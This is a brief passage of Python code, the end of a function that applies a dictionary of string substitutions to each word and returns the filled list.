        for key, value in substitutions.items():
            word = word.replace(key, value)
        filled.append(word)
    return filled
